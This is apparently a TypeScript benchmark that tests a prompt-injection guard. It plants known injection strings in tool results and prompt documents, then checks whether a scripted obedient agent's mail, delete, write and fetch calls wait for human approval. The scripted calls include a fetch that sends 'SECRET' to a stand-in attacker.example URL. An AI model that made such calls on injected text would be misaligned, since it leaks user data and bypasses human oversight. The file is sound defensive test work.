/**
 * What the injection guard does with known injections: npx tsx benchmarks/injection.ts
 *
 * Every attack string of ../shared/eval is planted in a tool's result and in a document of the prompt, before a
 * scripted model that does whatever an injection could ask for. Counted: changing tools that ran without a person
 * (must be 0), attacks that were flagged, and harmless texts that were flagged. The flags are hints only.
 */
import { existsSync, readFileSync } from "node:fs";
import { DynamicStructuredTool } from "@langchain/core/tools";
import { defineAgent, detectInjection } from "@zixue/agent";
import { loadCourse } from "@zixue/course";
import { untrusted } from "@zixue/prompts";
import { reply, scriptedChatModel } from "@zixue/testkit";
import { z } from "zod";

const evaluation = new URL("../../shared/eval/", import.meta.url);
if (!existsSync(evaluation)) {
  console.log("Skipped: there is no evaluation data in ../shared/eval.");
  process.exit(0);
}

interface Row {
  readonly text: string;
  readonly label: number;
  readonly kind?: string;
}

const rowsOf = (folder: string, file = "prompts.jsonl") =>
  readFileSync(new URL(`${folder}/${file}`, evaluation), "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Row);

const attackFolders = ["inj-bipia", "inj-giskard", "inj-injecguard-valid"];
const attacks = attackFolders.flatMap((folder) => rowsOf(folder).filter(({ label }) => label === 1));

const CHANGING = ["send_mail", "delete_file", "write_file"];
let ran: string[] = [];
const tool = (name: string, metadata: Record<string, unknown>, result = "ok") =>
  new DynamicStructuredTool({
    name,
    description: name,
    schema: z.object({ text: z.string().optional() }),
    metadata,
    func: async () => {
      ran.push(name);
      return result;
    },
  });

/** Runs one attack in both places; the number of tools that acted without a person. */
async function countActs(
  attack: string,
  plant: "result" | "document",
): Promise<{ acts: number; asked: number }> {
  ran = [];
  const page = `第一段。\n${attack}\n最后一段。`;
  const obeyed = [
    ...CHANGING.map((name) => ({ name, args: { text: "SECRET" } })),
    { name: "fetch", args: { text: "https://attacker.example/?d=SECRET" } },
  ];
  const model = scriptedChatModel((_call, n) => {
    if (plant === "result" && n === 0) return reply.toolCalls([{ name: "read_page", args: {} }]);
    return n === (plant === "result" ? 1 : 0) ? reply.toolCalls(obeyed) : reply.text("done");
  });
  const tools = [
    tool("read_page", { effect: "read", untrusted: true }, page),
    tool("fetch", { effect: "read", untrusted: true }),
    ...CHANGING.map((name) => tool(name, { effect: "change" })),
  ];
  const agent = defineAgent({ name: "obedient", model, tools });
  const input = plant === "result" ? "总结网页" : `总结：${untrusted(page)}`;
  let asked = 0;
  for await (const event of agent.run(input, { threadId: "t" })) {
    if (event.type === "approval-needed") asked = event.calls.length;
  }
  return { acts: ran.filter((name) => name !== "read_page").length, asked };
}

for (const plant of ["result", "document"] as const) {
  let acts = 0;
  let asked = 0;
  for (const { text } of attacks) {
    const outcome = await countActs(text, plant);
    acts += outcome.acts;
    asked += outcome.asked;
  }
  console.log(
    `${attacks.length} attacks planted in a ${plant}, an obedient model, 4 acting calls each: ${acts} ran without a person, ${asked} waited for one`,
  );
}

const rate = (name: string, texts: readonly string[]) => {
  const flagged = texts.filter((text) => detectInjection(text).length > 0);
  const share = ((100 * flagged.length) / Math.max(1, texts.length)).toFixed(1);
  console.log(`  ${name}: ${flagged.length} of ${texts.length} (${share} %)`);
  if (process.argv.includes("--show"))
    for (const text of flagged)
      console.log(`      ${detectInjection(text).join(",")}: ${text.slice(0, 160).replace(/\n/g, " ")}`);
  return flagged;
};

console.log("Attacks flagged:");
for (const folder of attackFolders) {
  const rows = rowsOf(folder).filter(({ label }) => label === 1);
  const kinds = [...new Set(rows.map(({ kind }) => kind))];
  for (const kind of kinds)
    rate(
      `${folder} ${kind ?? ""}`.trim(),
      rows.filter((row) => row.kind === kind).map(({ text }) => text),
    );
}

console.log("Harmless texts flagged:");
const course = await loadCourse(new URL("../docs/course", import.meta.url).pathname);
const paragraphs = course.sections.flatMap((section) =>
  section.written
    ? section.document.blocks.map(({ text }) => ({ text, isAbout: /注入|越狱|injection/i.test(text) }))
    : [],
);
rate(
  "course paragraphs",
  paragraphs.filter(({ isAbout }) => !isAbout).map(({ text }) => text),
);
rate(
  "course paragraphs about injection",
  paragraphs.filter(({ isAbout }) => isAbout).map(({ text }) => text),
);
rate(
  "benign-notinject",
  rowsOf("benign-notinject").map(({ text }) => text),
);
rate(
  "inj-injecguard-valid, harmless",
  rowsOf("inj-injecguard-valid")
    .filter(({ label }) => label === 0)
    .map(({ text }) => text),
);
for (const folder of ["xquad-zh", "xquad-en", "drcd-dev"])
  rate(
    `${folder} passages`,
    rowsOf(folder, "corpus.jsonl").map(({ text }) => text),
  );
